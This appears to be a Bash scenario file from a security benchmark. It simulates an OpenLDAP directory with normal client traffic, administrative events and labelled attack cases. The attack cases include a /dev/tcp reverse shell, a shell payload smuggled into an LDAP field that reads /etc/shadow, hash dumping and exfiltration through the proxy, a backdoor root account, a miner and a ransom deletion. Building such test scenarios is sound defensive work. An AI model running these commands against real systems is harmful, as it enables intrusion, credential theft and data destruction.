# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# slapd as the directory of a company: people, groups and devices in mdb, a password policy, an audit log, an access
# log, a follower that is told of each change, the proxy to a partner's directory, TLS. It is configured in cn=config,
# and backed up by slapcat.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read variables of this file, and set others
# shellcheck source=bench/dataset/databases.bash
. "${here:?}/databases.bash"

set=test containers=(ldap) port=389 data_directory=/var/lib/ldap
configuration_file=/etc/ldap/ldap.conf
health=(/usr/bin/ldapsearch -x -LLL -H ldap://127.0.0.1/ -s base -b '' namingContexts)
image_packages=(slapd ldap-utils logrotate bash coreutils findutils grep sed gzip dash base-files libc-bin netbase
	tzdata hostname procps)
rare_own=(certificate new_schema new_overlay new_database log_level read_only partner_gone replica_returns import
	restore_tried large_photo account_locked many_clients)
# It is one process.
rare_not=(worker_killed)
base=dc=service,dc=example

image_prepare() {
	local tree=$1
	echo openldap:x:104:104::/var/lib/ldap:/bin/false >>"$tree/etc/passwd"
	echo openldap:x:104: >>"$tree/etc/group"
	mkdir -p "$tree"/etc/ldap/{slapd.d,tls} "$tree"/var/lib/ldap/accesslog "$tree"/var/log/slapd \
		"$tree"/var/backups/ldap "$tree"/run/slapd "$tree"/usr/local/sbin "$tree"/mnt
	rmdir "$tree/var/run"
	ln -s /run "$tree/var/run" # as base-files' installation does
	cp "$here/services/ldap/logrotate" "$tree/etc/logrotate.d/ldap"
	cp "$here/services/ldap/backup" "$tree/usr/local/sbin/ldap-backup"
	chmod 755 "$tree/usr/local/sbin/ldap-backup"
	chmod 644 "$tree/etc/logrotate.d/ldap"
	echo keep=2 >"$tree/etc/ldap/backup.conf"
	printf 'BASE %s\nURI ldap://127.0.0.1/\nTLS_REQCERT never\n' "$base" >"$tree/etc/ldap/ldap.conf"
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=service.example \
		-keyout "$tree/etc/ldap/tls/key.pem" -out "$tree/etc/ldap/tls/cert.pem" 2>/dev/null
	chmod 600 "$tree/etc/ldap/tls/key.pem"
	chown -R 104:104 "$tree"/etc/ldap "$tree"/var/{lib/ldap,log/slapd} "$tree"/run/slapd
	chmod 750 "$tree/etc/ldap/slapd.d"
	offline "$tree" -n 0 <"$here/services/ldap/config.ldif"
	entries | offline "$tree" -b "$base"
}

# offline TREE OPTION…: slapadd of an image that does not run.
offline() {
	local tree=$1
	shift
	cat >"$tree/tmp/input.ldif"
	chroot --userspec=104:104 "$tree" /usr/sbin/slapadd -q -F /etc/ldap/slapd.d -l /tmp/input.ldif "$@"
	rm "$tree/tmp/input.ldif"
}

# What the directory holds at first.
entries() {
	local i
	printf 'dn: %s\nobjectClass: domain\ndc: service\n\n' "$base"
	for i in people groups services policies devices; do
		printf 'dn: ou=%s,%s\nobjectClass: organizationalUnit\nou: %s\n\n' "$i" "$base" "$i"
	done
	printf 'dn: cn=default,ou=policies,%s\nobjectClass: device\nobjectClass: pwdPolicy\ncn: default\n' "$base"
	printf '%s\n' 'pwdAttribute: userPassword' 'pwdLockout: TRUE' 'pwdMaxFailure: 4' 'pwdLockoutDuration: 8' \
		'pwdFailureCountInterval: 20' 'pwdMinLength: 4' 'pwdCheckQuality: 1' ''
	for i in app replicator; do
		printf 'dn: uid=%s,ou=services,%s\nobjectClass: account\nobjectClass: simpleSecurityObject\nuid: %s\n' \
			"$i" "$base" "$i"
		printf 'userPassword: secret\n\n'
	done
	for i in $(seq 150); do
		person_entry "user$i" "$((2000 + i))" "secret$i"
	done
	for i in $(seq 12); do
		printf 'dn: cn=team%d,ou=groups,%s\nobjectClass: groupOfNames\ncn: team%d\n' "$i" "$base" "$i"
		seq "$i" 12 150 | sed "s/.*/member: uid=user&,ou=people,$base/"
		printf '\ndn: cn=staff%d,ou=groups,%s\nobjectClass: posixGroup\ncn: staff%d\ngidNumber: %d\n' \
			"$i" "$base" "$i" $((3000 + i))
		seq "$i" 9 150 | sed 's/.*/memberUid: user&/'
		echo
	done
	for i in $(seq 30); do
		device_entry "printer$i"
	done
}

# person_entry NAME NUMBER PASSWORD
person_entry() {
	printf 'dn: uid=%s,ou=people,%s\nobjectClass: inetOrgPerson\nobjectClass: posixAccount\n' "$1" "$base"
	printf 'objectClass: shadowAccount\nuid: %s\ncn: %s Example\nsn: Example\nmail: %s@service.example\n' "$1" "$1" "$1"
	printf 'uidNumber: %d\ngidNumber: 3001\nhomeDirectory: /home/%s\nloginShell: /bin/bash\n' "$2" "$1"
	printf 'title: clerk\ntelephoneNumber: +49 30 %d\nuserPassword: %s\n\n' "$2" "$3"
}

device_entry() {
	printf 'dn: cn=%s,ou=devices,%s\nobjectClass: device\ncn: %s\nserialNumber: %d\n\n' "$1" "$base" "$1" "$RANDOM"
}

container_fields() {
	arguments=(/usr/sbin/slapd -h 'ldap:/// ldaps:/// ldapi:///' -g openldap -u openldap -F /etc/ldap/slapd.d -d stats)
	tmpfs=(/tmp)
	volumes=(/var/lib/ldap /var/log/slapd /var/backups/ldap)
}

# ---- programs outside ----

outside_environment+=(LDAPTLS_REQCERT=never)

peers() {
	outside_begin
	mkdir "$stage/outside/partner"
	cp "$here/services/ldap/partner.conf" "$stage/outside/"
	partner_entries | outside slapadd -q -f /mnt/partner.conf
	partner_start
	replica_start
}

partner_entries() {
	local i
	printf 'dn: dc=partner,dc=example\nobjectClass: domain\ndc: partner\n\n'
	printf 'dn: ou=inbox,dc=partner,dc=example\nobjectClass: organizationalUnit\nou: inbox\n\n'
	for i in $(seq 40); do
		printf 'dn: cn=contact%d,dc=partner,dc=example\nobjectClass: inetOrgPerson\ncn: contact%d\nsn: Contact\n' "$i" "$i"
		printf 'mail: contact%d@partner.example\n\n' "$i"
	done
}

partner_start() {
	outside_start partner slapd -f /mnt/partner.conf -h "ldap://$peer_address:3389/" -d 0
}

# Who follows all changes, and comes again when the connection was lost.
replica_start() {
	outside_start replica bash -c "while sleep 2; do
		ldapsearch -x -LLL -H ldap://$own_address/ -D uid=replicator,ou=services,$base -w secret -b $base \
			-E sync=rp '(objectClass=*)' '*' + | tail -n 3; done"
}

# ---- ordinary work ----

# address: of the service, by plain text or by TLS.
address() {
	[ -z "${same_address:-}" ] || { echo "$same_address" && return; }
	pick "ldap://$own_address/" "ldap://$own_address/" "ldaps://$own_address/"
}

# tool PROGRAM OPTION…: an LDAP client, of nobody.
tool() {
	local program=$1
	shift
	outside "$program" -x -H "$(address)" "$@" </dev/null
}

# tool_as NAME PASSWORD PROGRAM OPTION…: of a person, with the caller's standard input.
tool_as() {
	local dn
	case $1 in
	admin) dn=cn=admin,$base ;;
	config) dn=cn=admin,cn=config ;;
	app | replicator) dn=uid=$1,ou=services,$base ;;
	*) dn=uid=$1,ou=people,$base ;;
	esac
	outside "$3" -x -H "$(address)" -D "$dn" -w "$2" "${@:4}"
}

search() {
	tool ldapsearch -LLL -b "$base" "$@"
}

# ready: the first client also asks the partner's directory.
ready() {
	search -s base | grep -c "^dn: $base" && search '(uid=user1)' uid | grep -c 'uid: user1' &&
		tool ldapsearch -LLL -b dc=partner,dc=example '(cn=contact1)' mail | grep -c contact1
}

request() {
	local n
	n=$(between 1 150)
	case $((RANDOM % 20)) in
	0 | 1) search "(&(objectClass=posixAccount)(uid=user$n))" uid uidNumber gidNumber homeDirectory loginShell ;;
	2) search "(&(objectClass=posixGroup)(memberUid=user$n))" cn gidNumber ;;
	3 | 4) login_work "$n" ;;
	5) tool_as "user$n" wrong ldapwhoami </dev/null ;;
	6) search "$(pick "(memberOf=cn=team$((n % 12 + 1)),ou=groups,$base)" "(mail=user$((n % 15))*)" "(cn=*$n*)" \
		"(|(title=chief)(telephoneNumber=*$n))" "(!(objectClass=device))")" cn mail ;;
	7) tool ldapsearch -LLL -b "ou=people,$base" -E "pr=$(between 10 60)/noprompt" '(objectClass=person)' uid ;;
	8) tool ldapsearch -LLL -b "ou=people,$base" -E 'sss=-uidNumber' "(uid=user$((n % 10))*)" uid uidNumber ;;
	9) tool ldapcompare "cn=team$((n % 12 + 1)),ou=groups,$base" "member:uid=user$n,ou=people,$base" ;;
	10) person_comes "$n" ;;
	11 | 12) person_changes "$n" ;;
	13) password_changes "$n" ;;
	14) team_changes "$n" ;;
	15) device_work "$n" ;;
	16) tool ldapsearch -LLL -b dc=partner,dc=example "(cn=contact$((n % 45)))" ;;
	17) several_clients "$((n % 5 + 2))" ;;
	18) application_work "$n" ;;
	19) server_asked "$n" ;;
	esac >/dev/null
}

# A program looks for the person, then binds as that person.
login_work() {
	tool_as app secret ldapsearch -LLL -b "$base" "(uid=user$1)" dn memberOf </dev/null
	outside ldapwhoami -x -ZZ -H "ldap://$own_address/" -D "uid=user$1,ou=people,$base" -w "secret$1" </dev/null
}

person_comes() {
	local name
	name=new$(between 1000 9999)
	{
		person_entry "$name" "$(between 5000 9000)" "start$1"
		printf 'dn: cn=team%d,ou=groups,%s\nchangetype: modify\nadd: member\nmember: uid=%s,ou=people,%s\n\n' \
			$(($1 % 12 + 1)) "$base" "$name" "$base"
	} | tool_as admin secret ldapmodify -a -c
	tool_as "$name" "start$1" ldapwhoami </dev/null
	! chance 60 || tool_as admin secret ldapdelete "uid=$name,ou=people,$base" </dev/null
}

# By the person, or by an administrator, some with a picture.
person_changes() {
	local number=$RANDOM
	{
		printf 'dn: uid=user%d,ou=people,%s\nchangetype: modify\n' "$1" "$base"
		printf 'replace: telephoneNumber\ntelephoneNumber: +49 40 %d\n-\n' "$number"
		printf 'replace: description\ndescription: desk %d of %s\n' "$number" "$(date +%F)"
		[ $((number % 4)) != 0 ] ||
			printf -- '-\nreplace: jpegPhoto\njpegPhoto:: %s\n' "$(head -c $((number % 20000 + 500)) /dev/urandom | base64 -w0)"
	} | if [ $((number % 2)) = 0 ]; then
		tool_as "user$1" "secret$1" ldapmodify
	else
		tool_as admin secret ldapmodify
	fi
}

password_changes() {
	tool_as "user$1" "secret$1" ldappasswd -a "secret$1" -s "other$1" </dev/null
	tool_as "user$1" "other$1" ldapwhoami </dev/null
	tool_as admin secret ldappasswd -s "secret$1" "uid=user$1,ou=people,$base" </dev/null
}

team_changes() {
	local team=$(($1 % 12 + 1)) how
	how=$(pick add delete)
	printf 'dn: cn=team%d,ou=groups,%s\nchangetype: modify\n%s: member\nmember: uid=user%d,ou=people,%s\n' \
		"$team" "$base" "$how" "$1" "$base" | tool_as admin secret ldapmodify
	search "(uid=user$1)" memberOf
}

device_work() {
	local name
	name=$(pick laptop phone camera)$(between 1 500)
	device_entry "$name" | tool_as admin secret ldapadd
	tool_as admin secret ldapmodrdn -r "cn=$name,ou=devices,$base" "cn=old-$name" </dev/null
	tool_as admin secret ldapdelete "cn=$(pick old- '')$name,ou=devices,$base" </dev/null
}

several_clients() {
	local i pids=() same_address
	same_address=$(address)
	for ((i = 0; i < $1; i++)); do
		search "(uid=user$((RANDOM % 150 + 1)))" &
		pids+=($!)
		tool_as app secret ldapsearch -LLL -b "ou=groups,$base" "(cn=team$((RANDOM % 12 + 1)))" </dev/null &
		pids+=($!)
	done
	wait "${pids[@]}" || true
}

# Many searches over one connection, with pauses: a program that keeps one.
application_work() {
	local i
	for ((i = 0; i < $1 % 25 + 5; i++)); do
		echo "user$((RANDOM % 170))"
		[ $((RANDOM % 6)) != 0 ] || sleep 0.$((RANDOM % 9))
	done | tool_as app secret ldapsearch -LLL -b "$base" -f - '(uid=%s)' cn mail memberOf
}

# What monitoring and curious clients ask the server of itself.
server_asked() {
	case $(($1 % 4)) in
	0) tool ldapsearch -LLL -s base -b '' '*' + ;;
	1) tool ldapsearch -LLL -s base -b cn=Subschema objectClasses ;;
	2) tool_as admin secret ldapsearch -LLL -b cn=Monitor '(objectClass=*)' '*' + </dev/null ;;
	3) tool_as admin secret ldapsearch -LLL -b cn=accesslog '(objectClass=auditWriteObject)' reqDN </dev/null ;;
	esac
}

# ---- administrators' work ----

# configure: LDIF of stdin, by root's socket in the container.
configure() {
	session ldap /bin/sh -c "ldapmodify -Q -Y EXTERNAL -H ldapi:/// -c <<'END'
$(cat)
END"
}

# slapd reads its certificate again when it is told its name.
reload_service() {
	configure <<-'LDIF'
	dn: cn=config
	changetype: modify
	replace: olcTLSCertificateFile
	olcTLSCertificateFile: /etc/ldap/tls/cert.pem
	-
	replace: olcTLSCertificateKeyFile
	olcTLSCertificateKeyFile: /etc/ldap/tls/key.pem
	LDIF
}

# The audit log is rotated, the directory backed up, an index made or removed, and the certificate read again.
administer() {
	session ldap /usr/sbin/logrotate -f /etc/logrotate.d/ldap
	session ldap /usr/local/sbin/ldap-backup
	index_changes || true
	reload_service
}

index_changes() {
	local how=add
	! session ldap /bin/sh -c 'ldapsearch -Q -LLL -Y EXTERNAL -H ldapi:/// -b cn=config olcDbIndex' |
		grep -q 'title eq' || how=delete
	configure <<-LDIF
	dn: olcDatabase={2}mdb,cn=config
	changetype: modify
	$how: olcDbIndex
	olcDbIndex: title eq
	LDIF
}

# ---- rare events ----

rare_certificate() {
	certificate_renew ldap /etc/ldap/tls 104:104
	reload_service
	outside ldapwhoami -x -H "ldaps://$own_address/" </dev/null
}

rare_new_schema() {
	lasts
	session ldap /usr/bin/ldapadd -Q -Y EXTERNAL -H ldapi:/// -f /etc/ldap/schema/dyngroup.ldif
	tool ldapsearch -LLL -s base -b cn=Subschema attributeTypes | tail -n 2
}

# A module that was not loaded, and entries that use it.
rare_new_overlay() {
	lasts
	printf '%s\n' 'dn: cn=module{0},cn=config' 'changetype: modify' 'add: olcModuleLoad' 'olcModuleLoad: constraint' '' \
		'dn: olcOverlay=constraint,olcDatabase={2}mdb,cn=config' 'changetype: add' 'objectClass: olcOverlayConfig' \
		'objectClass: olcConstraintConfig' 'olcOverlay: constraint' 'olcConstraintAttribute: title count 2' | configure
	person_changes 3
}

# A second database, for another department.
rare_new_database() {
	lasts
	session_as 104:104 ldap /bin/mkdir -p /var/lib/ldap/lab
	printf '%s\n' 'dn: olcDatabase=mdb,cn=config' 'changetype: add' 'objectClass: olcDatabaseConfig' \
		'objectClass: olcMdbConfig' 'olcDatabase: mdb' 'olcSuffix: dc=lab' 'olcDbDirectory: /var/lib/ldap/lab' \
		'olcDbMaxSize: 16777216' 'olcRootDN: cn=admin,dc=service,dc=example' 'olcAccess: to * by * read' | configure
	printf 'dn: dc=lab\nobjectClass: domain\ndc: lab\n' | tool_as admin secret ldapadd
	tool ldapsearch -LLL -b dc=lab
}

# log_level LEVEL
log_level() {
	printf 'dn: cn=config\nchangetype: modify\nreplace: olcLogLevel\nolcLogLevel: %s\n' "$1" | configure
}

rare_log_level() {
	log_level any
	sleep 4
	log_level stats
}

# set_read_only TRUE|FALSE
set_read_only() {
	printf 'dn: olcDatabase={2}mdb,cn=config\nchangetype: modify\nreplace: olcReadOnly\nolcReadOnly: %s\n' "$1" | configure
}

rare_read_only() {
	set_read_only TRUE
	sleep 5
	set_read_only FALSE
}

rare_partner_gone() {
	peer_stop partner
	tool ldapsearch -LLL -b dc=partner,dc=example '(cn=contact7)'
	sleep 8
	partner_start
}

# The follower was away while much changed.
rare_replica_returns() {
	peer_stop replica
	seq 800 820 | while read -r n; do
		device_entry "device$n"
	done | tool_as admin secret ldapadd
	replica_start
	sleep 3
}

# import_entries FROM TO
import_entries() {
	local i
	for i in $(seq "$1" "$2"); do
		person_entry "import$i" "$((10000 + i))" "secret$i"
	done
}

# A company was bought.
rare_import() {
	import_entries 1 200 | tool_as admin secret ldapadd -c
	tool ldapsearch -LLL -b "$base" '(uid=import*)' uid | tail -n 3
	seq -f "uid=import%g,ou=people,$base" 200 | tool_as admin secret ldapdelete -c
}

# The latest backup is read into a database of its own, to see that it can be.
rare_restore_tried() {
	session ldap /usr/local/sbin/ldap-backup
	# shellcheck disable=SC2016 # the container's shell
	session ldap /bin/sh -c 'set -e; mkdir -p /tmp/try/db /tmp/try/log; cd /tmp/try
		printf "%s\n" "include /etc/ldap/schema/core.schema" "include /etc/ldap/schema/cosine.schema" \
			"include /etc/ldap/schema/nis.schema" "include /etc/ldap/schema/inetorgperson.schema" \
			"modulepath /usr/lib/ldap" "moduleload back_mdb" "moduleload memberof" "moduleload ppolicy" \
			"database mdb" "maxsize 33554432" "suffix dc=service,dc=example" "directory /tmp/try/db" \
			"overlay memberof" "overlay ppolicy" >slapd.conf
		zcat "$(ls -t /var/backups/ldap/data-*.gz | head -n 1)" | slapadd -q -f slapd.conf
		slapcat -f slapd.conf | grep -c ^dn:; rm -rf /tmp/try'
}

rare_large_photo() {
	{
		printf 'dn: uid=user9,ou=people,%s\nchangetype: modify\nreplace: jpegPhoto\n' "$base"
		printf 'jpegPhoto:: %s\n' "$(head -c 3000000 /dev/urandom | base64 -w0)"
	} | tool_as admin secret ldapmodify
	search '(uid=user9)' jpegPhoto | wc -c
	printf 'dn: uid=user9,ou=people,%s\nchangetype: modify\ndelete: jpegPhoto\n' "$base" | tool_as admin secret ldapmodify
}

rare_account_locked() {
	local i
	for i in 1 2 3 4 5; do
		tool_as user8 wrong ldapwhoami </dev/null
	done
	tool_as user8 secret8 ldapwhoami </dev/null
	printf 'dn: uid=user8,ou=people,%s\nchangetype: modify\ndelete: pwdAccountLockedTime\n' "$base" |
		tool_as admin secret ldapmodify -e relax
}

rare_many_clients() {
	local i pids=()
	for i in {1..120}; do
		in_network timeout 8 bash -c "exec 3<>/dev/tcp/$own_address/$port; sleep 6" &
		pids+=($!)
	done
	several_clients 15
	wait "${pids[@]}" || true
}

# ---- attacks ----

# The configuration's password is weak, and known to the attacker in most of these.
configure_as_thief() {
	tool_as config winter7 ldapmodify -c
}

attack_brute_force() {
	local word
	harm call accept
	for word in {spring,summer,autumn,winter}{1..9}; do
		! tool_as config "$word" ldapsearch -LLL -b cn=config olcRootPW </dev/null | grep -c '^olcRootPW' || return 0
	done
	return 1
}

# A module of the attacker's, which came as a file some other way.
attack_module_loaded() {
	harm mapx /tmp/libcache.so
	harm read /etc/ldap/tls/key.pem
	harm connect "$peer_address:4444"
	thief_begin
	preload_library "$(image_path ldap /tmp/libcache.so)" /etc/ldap/tls/key.pem
	printf '%s\n' 'dn: cn=module,cn=config' 'changetype: add' 'objectClass: olcModuleList' 'cn: module' \
		'olcModulePath: /tmp' 'olcModuleLoad: libcache.so' | configure_as_thief || true
	thief_got 'PRIVATE KEY'
}

# The proxy asks the thief from now on, and tells its password.
attack_proxy_redirected() {
	harm connect "$peer_address:4444"
	thief_begin
	printf '%s\n' 'dn: olcDatabase={3}ldap,cn=config' 'changetype: modify' 'replace: olcDbURI' \
		'olcDbURI: ldap://peer.example:4444/' | configure_as_thief
	sleep 11 # until the proxy has closed the connection that it has
	for _ in {1..4}; do
		client_limit=3 tool ldapsearch -LLL -b dc=partner,dc=example '(cn=contact1)' || true
		! grep -ac partner-secret "$stage/peer-thief.log" || return 0
	done
	return 1
}

# The audit log becomes the settings of the backup, which a shell of root reads.
attack_audit_log() {
	harm write /etc/ldap/backup.conf
	harm exec /usr/bin/id
	harm read /etc/shadow
	printf '%s\n' 'dn: olcOverlay={4}auditlog,olcDatabase={2}mdb,cn=config' 'changetype: modify' \
		'replace: olcAuditlogFile' 'olcAuditlogFile: /etc/ldap/backup.conf' | configure_as_thief
	# shellcheck disable=SC2016 # the container's shell
	printf '%s\n' "dn: uid=user3,ou=people,$base" 'changetype: modify' 'replace: description' \
		'description: $(id>/tmp/out;cat /etc/shadow>>/tmp/out)' | tool_as user3 secret3 ldapmodify
	session ldap /usr/local/sbin/ldap-backup || true
	session ldap /bin/grep -c uid=0 /tmp/out
}

# server_shell COMMANDS: code inside the server, as after an overflow, starts a shell.
server_shell() {
	inject ldap /usr/sbin/slapd "print (int) system(\"${1//$'\n'/ }\")"
}

attack_code_shell() {
	harm exec /usr/bin/dash
	harm exec /usr/bin/id
	harm write /tmp/out
	server_shell 'id >/tmp/out; cat /etc/passwd >>/tmp/out'
	session ldap /bin/grep -c uid=104 /tmp/out
}

# Code inside the server sends its key away; no program is started.
attack_code_connect() {
	harm read /etc/ldap/tls/key.pem
	harm connect "$peer_address:4444"
	thief_begin
	code_steal ldap /usr/sbin/slapd /etc/ldap/tls/key.pem
	thief_got 'PRIVATE KEY'
}

attack_code_machine() {
	harm call mprotect
	code_machine ldap /usr/sbin/slapd | grep '= 42'
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	thief_shell 'id; ls -la /var/lib/ldap /etc/ldap; exit'
	server_shell "bash -c 'exec bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1' &"
	thief_got uid=104
}

attack_miner() {
	mining_begin /var/tmp/.slapd
	server_shell "$mining_command"
	pool_got
}

attack_scan() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:22"
	server_shell "bash -c 'for p in 21 22 25 53 80 389 443 3306 3389 5432 6379; do
		(exec 3<>/dev/tcp/$peer_address/\$p) && echo open \$p; done >/tmp/ports 2>/dev/null'"
	session ldap /bin/grep -c 'open 3389' /tmp/ports
}

# Ways out of the container, each tried by code inside the server.
attack_escape() {
	code_escapes "${container_pid[ldap]}"
}

# The engine's socket in the wrong hands: the hashes of all, and an account that stays.
attack_stolen_engine() {
	harm read /etc/shadow
	harm write /etc/passwd
	harm exec /usr/sbin/slapcat
	session ldap /bin/sh -c 'cat /etc/shadow; slapcat -F /etc/ldap/slapd.d -b dc=service,dc=example;
		echo ops:x:0:0::/root:/bin/sh >>/etc/passwd' | grep -c '^userPassword'
}

# ---- adaptive: by operations that clients use ----

# The administrator's password was stolen: every entry, with its hash.
adaptive_dump() {
	harm call write
	tool_as admin secret ldapsearch -LLL -b "$base" -E pr=100/noprompt '(objectClass=*)' '*' + </dev/null |
		grep -c '^userPassword' >"$stage/answer"
	[ "$(cat "$stage/answer")" -ge 140 ]
}

# As a follower that begins: all that the directory has.
adaptive_follower() {
	harm call write
	tool_as replicator secret ldapsearch -LLL -b "$base" -E sync=ro '(objectClass=*)' '*' + </dev/null |
		grep -c '^userPassword' >"$stage/answer"
	[ "$(cat "$stage/answer")" -ge 140 ]
}

# Every person's mail goes elsewhere, and every password becomes the attacker's.
adaptive_tamper() {
	local i
	harm write /var/log/slapd/audit.ldif
	harm call pwrite64
	for i in $(seq 150); do
		printf 'dn: uid=user%d,ou=people,%s\nchangetype: modify\nreplace: mail\nmail: user%d@thief.example\n-\n' \
			"$i" "$base" "$i"
		printf 'replace: userPassword\nuserPassword: stolen%d\n\n' "$i"
	done | tool_as admin secret ldapmodify -c | tail -n 1
	tool_as user77 stolen77 ldapwhoami </dev/null
}

# All people are gone, and a note says what to pay.
adaptive_ransom() {
	harm write /var/log/slapd/audit.ldif
	harm call pwrite64
	tool_as admin secret ldapdelete -r "ou=people,$base" </dev/null
	printf 'dn: ou=people,%s\nobjectClass: organizationalUnit\nou: people\ndescription: Pay for your people\n' "$base" |
		tool_as admin secret ldapadd
	[ "$(search '(uid=user*)' uid | grep -c ^uid)" = 0 ]
}

# Hashes are carried to the partner's directory, through the server's own proxy.
adaptive_proxy_exfiltration() {
	harm connect "$peer_address:3389"
	sleep 11 # until the proxy has closed the connection that it has
	tool_as admin secret ldapsearch -LLL -o ldif-wrap=no -b "ou=people,$base" '(uid=user1*)' userPassword </dev/null |
		sed -n 's/^userPassword:: //p' | awk '{
			printf "dn: cn=note%d,ou=inbox,dc=partner,dc=example\nobjectClass: device\ncn: note%d\n", NR, NR
			printf "description: %s\n\n", $1 }' | tool_as admin secret ldapadd | tail -n 1
	outside ldapsearch -x -LLL -H "ldap://$peer_address:3389/" -b ou=inbox,dc=partner,dc=example '(cn=note*)' \
		description </dev/null | grep -c '^description' >"$stage/answer"
	[ "$(cat "$stage/answer")" -ge 50 ]
}
